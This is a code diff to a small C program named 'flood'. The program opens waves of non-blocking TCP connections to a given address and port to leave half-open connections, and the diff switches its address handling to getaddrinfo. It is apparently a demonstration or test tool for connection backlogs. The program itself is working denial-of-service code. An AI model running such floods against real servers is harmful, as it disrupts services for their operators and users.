@@ -7,8 +7,7 @@
  * half-open connection. (A flood in earnest forges its sender's address, with the
  * same effect.)
  */
-#include <arpa/inet.h>
-#include <netinet/in.h>
+#include <netdb.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <sys/socket.h>
@@ -18,21 +17,21 @@
 
 int main(int argc, char **argv)
 {
-	struct sockaddr_in server = { .sin_family = AF_INET };
+	const struct addrinfo how = { .ai_socktype = SOCK_STREAM };
+	struct addrinfo *server;
 	int socks[MOST], many;
 
-	if (argc != 5 || inet_pton(AF_INET, argv[1], &server.sin_addr) != 1 ||
+	if (argc != 5 || getaddrinfo(argv[1], argv[2], &how, &server) ||
 	    (many = atoi(argv[4])) < 0 || many > MOST) {
 		fprintf(stderr, "usage: flood ADDRESS PORT WAVES HOW-MANY\n");
 		return 2;
 	}
-	server.sin_port = htons((unsigned short)atoi(argv[2]));
 	setvbuf(stdout, NULL, _IOLBF, 0);
 
 	for (int wave = 1; wave <= atoi(argv[3]); wave++) {
 		for (int i = 0; i < many; i++) {
-			socks[i] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
-			connect(socks[i], (struct sockaddr *)&server, sizeof(server));
+			socks[i] = socket(server->ai_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
+			connect(socks[i], server->ai_addr, server->ai_addrlen);
 		}
 		printf("wave=%d\n", wave);
 		sleep(1);
